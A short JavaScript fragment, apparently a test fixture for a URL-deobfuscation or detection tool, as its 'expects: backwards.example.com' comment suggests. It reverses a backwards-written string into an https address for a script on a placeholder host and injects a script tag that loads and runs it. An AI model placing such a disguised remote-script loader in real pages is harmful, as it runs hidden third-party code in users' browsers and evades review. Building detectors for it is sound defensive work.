// An address backwards.
// expects: backwards.example.com
var u = "sj.a/moc.elpmaxe.sdrawkcab//:sptth".split("").reverse().join("");
document.head.appendChild(Object.assign(document.createElement("script"), { src: u }));
